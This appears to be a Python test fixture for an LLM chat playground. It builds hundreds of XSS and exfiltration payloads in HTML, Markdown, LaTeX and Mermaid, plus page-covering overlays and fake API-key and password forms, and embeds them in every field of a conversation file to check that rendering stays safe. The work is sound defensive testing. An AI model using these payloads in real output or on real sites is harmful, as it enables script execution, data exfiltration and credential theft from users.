"""What a hostile model writes: HTML, Markdown, formulas and diagrams that run script, call home, ask for input or
cover the page. Put together from parts, so that each trick is tried in each place it could work.

`{home}` is the address that must hear nothing; RUN is the script that must not run.
"""

RUN = "window.ran=(window.ran||0)+1;fetch('{home}/ran')"

SCRIPTS = [
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src={home}/s.js></script>",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script>",
    "<<script>{run}//<</script>",
    "<script>{run}",
    "</div></p><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "</textarea></title></style><script>{run}</script>",
    '<noscript><p title="</noscript><script>{run}</script>"></noscript>',
    "<template><script>{run}</script></template>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={home}/s.js /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    '<iframe src="javascript:parent.{run}"></iframe>',
    "<iframe src={home}/frame></iframe>",
    '<object data="javascript:{run}"></object>',
    "<object data={home}/object></object>",
    '<embed src="{home}/embed">',
    "<base href={home}/>",
    "<link rel=stylesheet href={home}/css>",
    "<link rel=prefetch href={home}/prefetch>",
    "<link rel=dns-prefetch href={home}>",
    '<meta http-equiv=refresh content="0;url={home}/meta">',
    "<style>@import url({home}/import);</style>",
    "<style>*{{display:none!important}}body{{background:url({home}/bg)}}</style>",
    "<style>@font-face{{font-family:x;src:url({home}/font)}}*{{font-family:x}}</style>",
    "<?xml-stylesheet href={home}/xml?>",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '{home}/entity'>]>",
]

TAGS = ["img", "svg", "video", "audio", "body", "details open", "marquee", "input autofocus", "select autofocus"]
TAGS += ["textarea autofocus", "iframe", "object", "a", "div", "x", "custom-tag", "math", "button autofocus", "image"]
EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter"]
HANDLERS = [f'<{tag} src=x {event}="{{run}}">here' for tag in TAGS for event in EVENTS[:3]]
HANDLERS += [f"<img src=x{gap}onerror={{run}}>" for gap in ("/", "\t", "\n", "\x0c", " / ", "\r\n")]
HANDLERS += [f"<svg><animate {event}={{run}} attributeName=x dur=1s>" for event in ("onbegin", "onend", "onrepeat")]
HANDLERS += [f'<p style="animation:x" {event}={{run}}>' for event in EVENTS[3:]]
HANDLERS += ["<img src=`x`onerror={run}>", '<img """><img src=x onerror={run}>', "<IMG SRC=x OnErRoR={run}>"]

SOURCES = [
    "<img src={home}/img>",
    '<img srcset="{home}/srcset 1x">',
    "<img src=//{host}/bare>",
    '<img src="{home}/quoted" width=1 height=1>',
    "<picture><source srcset={home}/source><img></picture>",
    "<video poster={home}/poster></video>",
    "<video src={home}/video autoplay></video>",
    "<video><source src={home}/vsource></video>",
    "<audio src={home}/audio autoplay></audio>",
    "<track src={home}/track>",
    "<input type=image src={home}/input>",
    "<svg><image href={home}/svg /></svg>",
    "<svg><use href={home}/use#x /></svg>",
    "<svg><feImage href={home}/fe /></svg>",
    "<body background={home}/body>",
    "<table background={home}/table><td background={home}/td>x</table>",
    '<div style="background:url({home}/style)">x</div>',
    "<div style=\"background-image:image-set('{home}/set' 1x)\">x</div>",
    '<ul style="list-style-image:url({home}/list)"><li>x</ul>',
    '<p style="content:url({home}/content);cursor:url({home}/cursor),auto">x</p>',
    '<div style="border-image:url({home}/border)">x</div>',
    "<a ping={home}/ping href={home}/a>click</a>",
    "<frameset><frame src={home}/frame></frameset>",
    "<applet code={home}/applet></applet>",
    "<portal src={home}/portal></portal>",
    '<div style="mask:url({home}/mask#x);filter:url({home}/filter#x)">x</div>',
]

MARKDOWN = [
    "![x]({home}/md)",
    "![x](<{home}/angle>)",
    '![x]({home}/title "title")',
    "![]({home}/empty)",
    "![![x]({home}/inner)]({home}/outer)",
    "[![x]({home}/linked)]({home}/to)",
    "![x][ref]\n\n[ref]: {home}/ref",
    "![ref2]\n\n[ref2]: {home}/ref2",
    "![ref3][]\n\n[ref3]: <{home}/ref3>",
    "> ![x]({home}/quote)",
    "- ![x]({home}/item)",
    "1. text\n\n   ![x]({home}/inlist)",
    "| a |\n|---|\n| ![x]({home}/cell) |",
    "# ![x]({home}/heading)",
    "**![x]({home}/bold)**",
    "\\![x]({home}/escaped)",
    "!\\[x]({home}/escaped2)",
    "\\\\![x]({home}/escaped3)",
    "&#33;[x]({home}/entity)",
    "![x](//{host}/scheme)",
    "![x](http:{host}/slashes)",
    '![x]({home}/newline\n"t")',
    "![x\ny]({home}/multiline)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\tscript:{run})",
    "[x](&#106;avascript:{run})",
    "[x](javascript&colon;{run})",
    "[x](\x01javascript:{run})",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>{run}</script>)",
    "<javascript:{run}>",
    "[x]: javascript:{run}\n\n[x]",
    '[a]("onmouseover={run}//)',
    '[a](x "\\" onmouseover={run} \\"")',
    "[x](<x onerror={run}>)",
    "^[<img src=x onerror={run}>]",
    "[^1]\n\n[^1]: <img src={home}/footnote>",
    "&lt;img src={home}/entities onerror={run}&gt;",
    "&#60;img src={home}/numeric&#62;",
    "\\<img src={home}/backslash>",
    "<{home}/autolink>",
    "www.<img src={home}/www>",
    "Term\n: <img src={home}/definition>",
]

# Places where a parser may think that it is in code, or has left it.
PLACES = [
    "`{x}",
    "``{x}`",
    "` {x} `",
    "```\n```\n{x}",
    "```\n````\n{x}",
    "~~~\n```\n~~~\n{x}",
    "````\n```\n{x}\n```\n````\n{x}",
    "   ```\n{x}\n   ```",
    "- a\n  ```\n{x}\n  ```",
    "- ```\n{x}\n```",
    "1. a\n\n   ```\n   code\n{x}\n   ```",
    "> ```\n{x}\n> ```",
    "text\n    ```\n    {x}\n    ```",
    "\t```\n{x}",
    "``` a`b\n{x}\n```",
    "```html {x}\nx\n```",
    "~~~ `\n{x}",
    "    code\n{x}",
    "$$\n```\n$$\n{x}\n```",
    "```\n$$\n```\n{x}\n$$",
    "```\n$$ {x} $$\n```",
    "$$ {x} $$",
    "\\[ {x} \\]",
    "\\( {x} \\)",
    "$${x}",
    "\\(\\[$$ {x} $$\\]\\)",
    "%%%LATEX_BLOCK_0%%% $${x}$$",
    "$$ \\text{{ {x} }} $$",
    "<details><summary>s</summary>\n\n{x}\n\n</details>",
    "<pre>\n\n{x}\n\n</pre>",
    "<!-- \n\n{x}\n\n-->",
    "<code>{x}</code>",
]
INNER = ["<img src={home}/place onerror={run}>", "![x]({home}/place)", "<script>{run}</script>"]

FORMULAS = [
    "$$\\includegraphics{{{home}/tex}}$$",
    "$$\\href{{javascript:{run}}}{{x}}$$",
    "$$\\url{{javascript:{run}}}$$",
    "$$\\htmlStyle{{background:url({home}/texstyle)}}{{x}}$$",
    "$$\\htmlId{{composer}}{{x}}\\htmlClass{{fixed}}{{x}}\\htmlData{{a=b}}{{x}}$$",
    "$$\\def\\a{{\\a\\a}}\\a$$",
    "$$\\rule{{9999em}}{{9999em}}$$",
    "$$\\kern{{-9999em}}x$$",
    "\\(\\unicode{{x3c}}img src={home}/unicode\\)",
    "$$\\text{{</span><img src={home}/text onerror={run}>}}$$",
    "```mermaid\ngraph TD\nA[<img src={home}/mermaid onerror={run}>]\n```",
    '```mermaid\ngraph TD\nA-->B\nclick A "javascript:{run}"\n```',
    "```mermaid\ngraph TD\nA-->B\nclick A call {run}\n```",
    '```mermaid\n%%{{init: {{"themeCSS": "@import url({home}/theme);"}}}}%%\ngraph TD\nA-->B\n```',
    '```mermaid\n%%{{init: {{"securityLevel": "loose"}}}}%%\ngraph TD\nA["<script>{run}</script>"]\n```',
]

COVERS = [
    '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
    '<a href={home} style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px">x</a>',
    '<dialog open style="position:fixed;inset:0">Log in</dialog>',
    '<form action={home}/form><input name=key placeholder="API key"><button>Send</button></form>',
    "<input type=password placeholder=Password>",
    "<button formaction={home}/button>Continue</button>",
    "<textarea>write here</textarea>",
    "<select><option>choose</select>",
    '<div class="fixed inset-0 modal" popover=manual>x</div>',
    "<isindex action={home} type=image>",
    "<keygen autofocus>",
    "<div contenteditable>key</div>",
    "<div id=composer></div><div id=transcript></div>",
    "<img name=getElementById><form name=body><input name=documentElement></form>",
]


def payloads(home: str) -> list[str]:
    """Every payload, for the listener at `home`."""
    every = [*SCRIPTS, *HANDLERS, *SOURCES, *MARKDOWN, *FORMULAS, *COVERS]
    return [_filled(one, home) for one in every] + [_placed(place, x, home) for place in PLACES for x in INNER]


def answers(home: str, together: int = 40) -> list[str]:
    """The same as answers of a model: many of them in one, but for those that play with where code begins and ends."""
    free = payloads(home)[: -len(PLACES) * len(INNER)]
    found = ["\n\n".join(free[at : at + together]) for at in range(0, len(free), together)]
    return [*found, *(_placed(place, "\n".join(INNER), home) for place in PLACES)]


def hostile_conversation(said: list[str]) -> dict[str, object]:
    """A conversation's file in which every field that is text is one of `said`."""
    turns: list[dict[str, object]] = []
    for text in said:
        error = {"kind": "server", "message": text}
        tokens = [[text[at : at + 40], -0.1, [[text[at : at + 40], -0.1]]] for at in range(0, len(text), 40)]
        words = {"thinking": text, "detail": text, "dropped": [text], "violations": [text], "tokens": tokens}
        reply = {"model": text, "error": error, "finish_reason": "content_filter", **words}
        parent = len(turns) - 1 if turns else None
        turns.append({"parent": parent, "role": "user", "content": text})
        turns.append({"parent": len(turns) - 1, "role": "assistant", "content": text, "reply": reply})
    return {
        "format": "llm-playground-conversation",
        "id": "hostile",
        "title": said[0][:200],
        "model": said[0],
        "system_prompt": said[1],
        "leaf": len(turns) - 1,
        "turns": turns,
    }


def _filled(one: str, home: str) -> str:
    return one.format(home=home, host=home.split("//", 1)[1], run=RUN.format(home=home))


def _placed(place: str, x: str, home: str) -> str:
    return place.replace("{{", "{").replace("}}", "}").replace("{x}", _filled(x, home))
